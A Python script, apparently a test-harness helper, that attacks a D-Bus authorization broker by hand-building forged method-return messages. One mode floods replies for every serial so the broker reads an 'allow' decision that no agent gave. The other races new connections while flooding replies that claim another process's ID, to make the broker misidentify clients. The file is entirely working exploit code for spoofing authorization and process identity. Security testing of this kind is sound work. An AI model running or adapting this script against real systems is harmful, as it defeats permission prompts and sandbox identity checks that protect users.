#!/usr/bin/python3
"""Answers calls of the broker that others were sent: replies with every serial that the broker may be waiting for.

    forge.py answers COUNT     once for each serial up to COUNT: "allow", as an agent would answer a prompt
    forge.py credentials PID   while it connects twelve times: that the new connection is process PID's

Says "ready", waits for a line, does it, and says what came of it, after the broker has read all of it.
"""
import os
import struct
import sys
import threading

from raw_bus import RawBus, append, padded

BROKER, ROOT = "org.filmgate.Library1", "/org/filmgate/Library1"


def reply(destination, answers, options):
    """A method return to a call with that serial, whose body is a{sv}."""
    body = append(b"", "a{sv}", options)
    fields = bytes([5, 1]) + b"u\0" + struct.pack("<I", answers)
    fields = padded(fields, 8) + bytes([6, 1]) + b"s\0" + struct.pack("<I", len(destination)) + destination.encode() + b"\0"
    fields = padded(fields, 8) + bytes([8, 1]) + b"g\0" + b"\x05a{sv}\0"
    header = b"l" + bytes([2, 1, 1]) + struct.pack("<III", len(body), 1, len(fields)) + fields
    return padded(header, 8) + body


def ask(bus, interface, member, signature="", values=()):
    return bus.answer(bus.call(BROKER, ROOT, "org.filmgate." + interface, member, signature, values))


def owner(bus):
    return bus.answer(bus.call("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "GetNameOwner", "s",
                               (BROKER,)))["text"]


def answers(bus, broker, count):
    for serial in range(1, count + 1):
        bus.socket.sendall(reply(broker, serial, {"decision": "allow"}))
    ask(bus, "Authorization1", "GetStatus", "s", ("read-write",))
    return "forged"


def credentials(bus, broker, pid, address):
    options = {"UnixUserID": os.getuid(), "ProcessID": pid}
    ended = threading.Event()

    def flood():
        base = 1
        # The bus has others to serve meanwhile, the new connections among them.
        while not ended.wait(0.005):
            bus.socket.sendall(b"".join(reply(broker, serial, options) for serial in range(base, base + 500)))
            base = base + 500 if base < 3000 else 1

    thread = threading.Thread(target=flood)
    thread.start()
    taken = 0
    for _ in range(12):
        other = RawBus(address)
        client = ask(other, "Authorization1", "GetClient")
        taken += b"flatpak:" in client["body"]
        other.close()
    ended.set()
    thread.join()
    return f"{taken} of 12"


def main():
    address = os.environ["DBUS_SESSION_BUS_ADDRESS"]
    bus = RawBus(address)
    broker = owner(bus)
    print("ready", flush=True)
    sys.stdin.readline()
    number = int(sys.argv[2])
    print(answers(bus, broker, number) if sys.argv[1] == "answers" else credentials(bus, broker, number, address), flush=True)


main()
